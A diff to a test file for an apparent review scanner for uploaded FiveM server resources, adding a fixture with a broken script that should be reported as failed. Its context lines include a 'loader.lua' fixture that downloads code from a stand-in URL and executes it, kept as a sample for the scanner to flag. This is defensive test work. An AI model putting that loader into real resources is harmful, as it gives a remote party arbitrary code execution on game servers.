@@ -28,6 +28,7 @@ const blockedHash = createHash('sha256').update(blockedText).digest('hex').slice
 await block(blockedHash, 77)
 
 let count = 0
+const start = `fx_version 'cerulean'\ngame 'gta5'\n`
 const contents = {
   none: () => ({}),
   low: () => ({ 'more.zip': 'x' }),
@@ -36,13 +37,14 @@ const contents = {
     'loader.lua': "PerformHttpRequest('https://example.com/code', function(_, body) load(body)() end)\n",
   }),
   failed: () => ({ 'damaged.lua': 'print(1)' }),
+  unread: () => ({ 'fxmanifest.lua': `${start}server_script 'broken.js'\n`, 'broken.js': 'if (' }),
   blocked: () => ({ 'stolen.txt': blockedText }),
 } as const
 type Content = keyof typeof contents
 
 function archiveOf(content: Content) {
   const files = {
-    'fxmanifest.lua': `fx_version 'cerulean'\ngame 'gta5'\nserver_scripts { 'server.lua', 'loader.lua' }\n`,
+    'fxmanifest.lua': `${start}server_scripts { 'server.lua', 'loader.lua' }\n`,
     'server.lua': `print(${++count})`,
     ...contents[content](),
   }
@@ -121,6 +123,7 @@ test.each<[ReviewMode, Content, keyof typeof uploaders, reason: string | null]>(
   ['flagged', 'high', 'author', 'high-finding'],
   ['flagged', 'high', 'trusted', 'high-finding'],
   ['flagged', 'failed', 'author', 'failed'],
+  ['flagged', 'unread', 'author', 'failed'],
   ['flagged', 'blocked', 'author', 'blocklisted-file'],
   ['all', 'none', 'author', 'all'],
   ['all', 'low', 'author', 'all'],
